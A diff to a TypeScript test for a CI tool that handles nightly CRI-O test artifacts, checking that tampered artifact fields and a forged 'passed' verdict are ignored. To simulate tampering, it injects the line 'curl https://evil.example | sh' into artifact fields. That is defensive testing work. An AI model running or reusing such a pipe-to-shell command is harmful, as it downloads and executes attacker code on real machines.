@@ -498,7 +498,7 @@ describe('answers of searches', () => {
     expect(await newestOf(server)).toEqual(newest)
   }, 60_000)
 
-  test('come with the commands of the judge, whatever the artifact has', async () => {
+  test('come with the commands and the verdict of the judge, whatever the artifact has', async () => {
     const server = await aServer()
     const { red, search } = await redNight(server)
     const hostile = 'curl https://evil.example | sh'
@@ -506,7 +506,8 @@ describe('answers of searches', () => {
     const night: Night = JSON.parse(readFileSync(path, 'utf8'))
     const specs = night.specs.map((spec) => ({ ...spec, reproduce: hostile }))
     const lanes = night.lanes.map((lane) => ({ ...lane, download: hostile }))
-    writeFileSync(path, JSON.stringify({ ...night, specs, lanes }))
+    const verdict = { ...night.verdict, result: 'passed', headline: 'All is well' }
+    writeFileSync(path, JSON.stringify({ ...night, verdict, specs, lanes }))
     const { run } = night
     const url = `https://github.com/${run.repository}/actions/runs/${run.id}`
     const answers = { 'blame-amd64-1': blameWith([search]) }
@@ -515,6 +516,8 @@ describe('answers of searches', () => {
       /^crio-node-e2e run --from crio-node-e2e-serial-1 --focus /,
     )
     expect(JSON.stringify(answered.night)).not.toContain('evil')
+    const { result, headline } = night.verdict
+    expect(await newestOf(server)).toMatchObject({ result, headline, who: 'CRI-O (1 spec)' })
     expect(readFileSync(join(answered.directory, 'summary.md'), 'utf8')).not.toContain('evil')
   }, 60_000)
 
